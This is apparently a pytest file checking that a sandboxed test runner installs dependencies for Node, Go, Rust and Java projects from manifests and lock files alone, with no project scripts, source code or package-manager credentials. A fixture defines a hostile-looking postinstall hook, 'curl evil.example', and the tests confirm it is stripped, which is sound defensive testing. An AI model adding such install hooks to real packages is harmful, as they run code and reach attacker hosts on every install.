"""What is installed for projects that are not Python: from manifests and lock files alone, keyed by what they hold."""

import json

import pytest

from repowright_tools.run_tests_sandboxed.languages import FOLDER, find_language, language_spec, language_variables

SCRIPTS = {"postinstall": "curl evil.example"}
PACKAGE = json.dumps({"name": "a", "scripts": SCRIPTS, "dependencies": {"b": "1"}}).encode()
CODE = {"index.js": b"code", "src/main.rs": b"code", "main.go": b"code", "src/main/java/A.java": b"code"}


@pytest.mark.parametrize(
    ("files", "tool", "held"),
    [
        ({"package.json": PACKAGE, "package-lock.json": b"{}"}, "npm ci", ["package-lock.json", "package.json"]),
        (
            {"package.json": PACKAGE, "pnpm-lock.yaml": b"", "packages/x/package.json": PACKAGE},
            "pnpm install --frozen-lockfile",
            ["package.json", "packages/x/package.json", "pnpm-lock.yaml"],
        ),
        ({"package.json": PACKAGE, "yarn.lock": b""}, "yarn install", ["package.json", "yarn.lock"]),
        ({"go.mod": b"module a", "go.sum": b"x"}, "go mod download", ["go.mod", "go.sum"]),
        (
            {"Cargo.toml": b"[package]", "Cargo.lock": b""},
            "cargo fetch --locked",
            ["Cargo.lock", "Cargo.toml", "src/lib.rs", "src/main.rs"],
        ),
        ({"pom.xml": b"<project/>"}, "dependency:go-offline", ["pom.xml"]),
        ({"build.gradle": b"", "gradle.lockfile": b""}, "gradle", ["build.gradle", "gradle.lockfile"]),
    ],
)
def test_an_installation_sees_manifests_and_nothing_else(files: dict[str, bytes], tool: str, held: list[str]) -> None:
    spec = language_spec({**CODE, "node_modules/b/package.json": b"{}", **files})
    assert spec is not None
    assert sorted(spec.files) == held
    assert b"code" not in spec.files.values()
    assert tool in spec.commands[0][-1]
    assert list(spec.writes) == [FOLDER]


def test_a_projects_own_scripts_do_not_run_in_the_installation() -> None:
    spec = language_spec({"package.json": PACKAGE, "package-lock.json": b"{}"})
    assert spec is not None
    assert json.loads(spec.files["package.json"]) == {"name": "a", "dependencies": {"b": "1"}}


def test_credentials_of_a_package_manager_are_not_taken_along() -> None:
    files = {"package.json": PACKAGE, "package-lock.json": b"{}", ".npmrc": b"//x/:_authToken=canary"}
    spec = language_spec(files)
    assert spec is not None
    assert ".npmrc" not in spec.files


def test_the_environment_is_another_one_for_another_lock_file_base_or_installer_and_the_same_for_other_code() -> None:
    files = {"package.json": PACKAGE, "package-lock.json": b"{}"}
    one, same = language_spec(files), language_spec({**files, **CODE})
    other, tool = language_spec({**files, "package-lock.json": b"{ }"}), language_spec({**files, "yarn.lock": b""})
    assert one is not None
    assert same is not None
    assert other is not None
    assert tool is not None
    assert one.key("base") == same.key("base")
    assert len({one.key("base"), one.key("base2"), other.key("base"), tool.key("base")}) == 4


def test_a_project_without_a_lock_file_has_nothing_to_install() -> None:
    assert language_spec({"package.json": PACKAGE}) is None
    assert language_spec({"go.mod": b"module a"}) is None
    assert find_language({"README.md": b""}) is None


def test_tests_of_go_and_rust_write_where_there_is_room_and_ask_no_network() -> None:
    assert language_variables(["go.mod"])["GOPROXY"] == "off"
    assert language_variables(["go.mod"])["GOCACHE"].startswith("/work/")
    assert language_variables(["Cargo.lock"])["CARGO_NET_OFFLINE"] == "true"


def test_a_package_json_that_is_none_is_left_to_the_tool() -> None:
    spec = language_spec({"package.json": b"[", "package-lock.json": b"{}"})
    assert spec is not None
    assert spec.files["package.json"] == b"["
